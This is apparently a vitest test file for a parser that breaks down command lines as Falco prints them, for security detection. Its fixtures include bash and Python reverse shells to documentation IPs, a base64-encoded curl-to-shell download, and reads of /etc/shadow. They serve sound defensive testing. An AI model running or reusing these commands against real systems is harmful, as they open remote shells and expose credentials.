import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCommandLine } from './parse.ts';
import { LIMITS } from './types.ts';

/** `origin name arg arg >target`, one line a command. */
function lines(text: string): string[] {
  return parseCommandLine(text).commands.map((c) =>
    [
      c.origin,
      ...c.via.map((v) => `[${v}]`),
      ...c.words,
      ...c.redirects.map((r) => `${r.fd ?? ''}${r.op} ${r.target}`),
    ].join(' '),
  );
}

describe('a command line as Falco prints it', () => {
  it('reads the script behind -c with the shell’s own quotes', () => {
    expect(lines('bash -c chcon -t modules_object_t "/root/.falco/x y.ko"').slice(1)).toEqual([
      'script [bash -c] chcon -t modules_object_t /root/.falco/x y.ko',
    ]);
  });

  it('does not take shell characters outside a script for syntax', () => {
    expect(lines('grep -r a|b;c /etc')).toEqual(['argv grep -r a|b;c /etc']);
  });

  it('splits pipes, lists, redirections, groups and loops', () => {
    expect(
      lines('sh -c for i in 1; do a $i; done; if [ -f /x ]; then b 2>&1 >/tmp/o | c; fi && (d; e) & f').slice(
        1,
      ),
    ).toEqual([
      'script [sh -c] a $i',
      'script [sh -c] [ -f /x ]',
      'script [sh -c] b 2>& 1 > /tmp/o',
      'script [sh -c] c',
      'script [sh -c] d',
      'script [sh -c] e',
      'script [sh -c] f',
    ]);
  });

  it('reads substitutions, process substitutions and here-strings', () => {
    expect(lines('bash -c x=$(curl -s u) && bash <(wget -qO- v); `id`; sh <<< "echo hi"').slice(1)).toEqual([
      'script [bash -c]',
      'script [bash -c] curl -s u',
      'script [bash -c] bash <(wget -qO- v)',
      'script [bash -c] wget -qO- v',
      'script [bash -c] `id`',
      'script [bash -c] id',
      'script [bash -c] sh <<< echo hi',
      'script [bash -c] [sh <<<] echo hi',
    ]);
  });

  it('takes wrappers off, outermost first', () => {
    expect(lines('sudo -u root env A=b timeout 5 nsenter -t 1 -m -- chroot /host sh -c id').at(-1)).toBe(
      'script [sudo] [env] [timeout] [nsenter] [chroot] [sh -c] id',
    );
    expect(lines('find / -name k -exec grep -l pass {} ;').at(-1)).toBe('argv [find -exec] grep -l pass {}');
    expect(lines('xargs -n 1 rm -f').at(-1)).toBe('argv [xargs] rm -f');
    expect(lines('kubectl exec p -- cat /etc/shadow').at(-1)).toBe('argv [kubectl exec] cat /etc/shadow');
  });

  it('finds connections that bash opens', () => {
    expect(parseCommandLine('bash -c bash -i >& /dev/tcp/203.0.113.45/4444 0>&1').sockets).toEqual([
      { protocol: 'tcp', host: '203.0.113.45', port: '4444' },
    ]);
    expect(parseCommandLine('bash -c exec 5<>/dev/udp/h.example/53; cat <&5').sockets).toEqual([
      { protocol: 'udp', host: 'h.example', port: '53' },
    ]);
  });

  it('decodes payloads only next to their decoder and reads what a shell would run', () => {
    const payload = Buffer.from('curl -s http://203.0.113.80/s2.sh').toString('base64');
    const parsed = parseCommandLine(`sh -c echo ${payload} | base64 -d | sh`);
    expect(parsed.decoded).toEqual([
      { encoding: 'base64', text: 'curl -s http://203.0.113.80/s2.sh', executed: true },
    ]);
    expect(parsed.commands.at(-1)).toMatchObject({ name: 'curl', origin: 'decoded' });
    expect(parsed.urls).toEqual(['http://203.0.113.80/s2.sh']);
    expect(parseCommandLine(`sh -c echo ${payload}`).decoded).toEqual([]);
    expect(lines(String.raw`sh -c printf '\x69\x64' | bash`).at(-1)).toBe('decoded [sh -c] [| bash] id');
    expect(lines('sh -c echo 6964203e202f746d702f78 | xxd -r -p | sh').at(-1)).toBe(
      'decoded [sh -c] [| sh] id > /tmp/x',
    );
  });

  it('reads what an interpreter’s program runs and where it connects', () => {
    const parsed = parseCommandLine(
      'python3 -c import socket,subprocess;s=socket.socket();s.connect(("10.0.0.1",4242));subprocess.call(["/bin/sh","-i"])',
    );
    expect(parsed.sockets).toEqual([{ protocol: 'tcp', host: '10.0.0.1', port: '4242' }]);
    expect(parsed.commands.at(-1)).toMatchObject({ origin: 'interpreter', words: ['/bin/sh', '-i'] });
    const inner = Buffer.from('import os;os.system("id > /tmp/x")').toString('base64');
    expect(lines(`python3 -c exec(__import__("base64").b64decode("${inner}"))`).at(-1)).toBe(
      'interpreter [python] id > /tmp/x',
    );
    expect(lines('perl -e system("whoami")').at(-1)).toBe('interpreter [perl] whoami');
    expect(lines('awk BEGIN{system("/bin/sh")}').at(-1)).toBe('interpreter [awk] /bin/sh');
  });

  it('takes Falco’s replaced line breaks for line breaks', () => {
    expect(lines('sh -c \ufffd : > /var/log/a.log\ufffd logrotate_script /x').slice(1)).toEqual([
      'script [sh -c] : > /var/log/a.log',
      'script [sh -c] logrotate_script /x',
    ]);
  });
});

describe('hostile command lines', () => {
  it('stays within its bounds', () => {
    for (const text of [
      `sh -c ${'$('.repeat(30_000)}`,
      `sh -c ${'"$(`'.repeat(20_000)}`,
      `sh -c ${'a|'.repeat(40_000)}`,
      `bash -c ${'('.repeat(70_000)}`,
      `python -c ${'system('.repeat(9_000)}`,
      `python -c exec${' '.repeat(60_000)}`,
      `sh -${'c'.repeat(60_000)}!`,
      `${'1'.repeat(60_000)}x`,
      `sh -c ${'sudo '.repeat(12_000)}`,
      `sh -c ${`echo ${'QUJD'.repeat(20)} | base64 -d | sh;`.repeat(600)}`,
      `curl http://${'.'.repeat(1_990)}a ${'http://a,'.repeat(6_000)}`,
    ]) {
      const before = process.cpuUsage();
      const parsed = parseCommandLine(text);
      const { user } = process.cpuUsage(before);
      expect(parsed.commands.length).toBeLessThanOrEqual(LIMITS.commands);
      expect(user / 1_000).toBeLessThan(400);
    }
  });

  it('never throws', () => {
    const piece = fc.constantFrom(
      'sh',
      '-c',
      ' ',
      '"',
      "'",
      '$(',
      ')',
      '`',
      '|',
      '>',
      '<<<',
      '&',
      ';',
      '\\',
      '#',
      '\0',
      '\ufffd',
      'base64 -d',
      'echo',
      '\n',
      '/dev/tcp/a/1',
      '{',
      '}',
    );
    fc.assert(
      fc.property(
        fc.array(fc.oneof(piece, fc.string({ unit: 'binary', maxLength: 12 })), { maxLength: 60 }),
        (parts) => {
          const parsed = parseCommandLine(parts.join(''));
          expect(parsed.commands.every((c) => c.depth <= LIMITS.depth + 2)).toBe(true);
        },
      ),
      { numRuns: 300 },
    );
  });
});
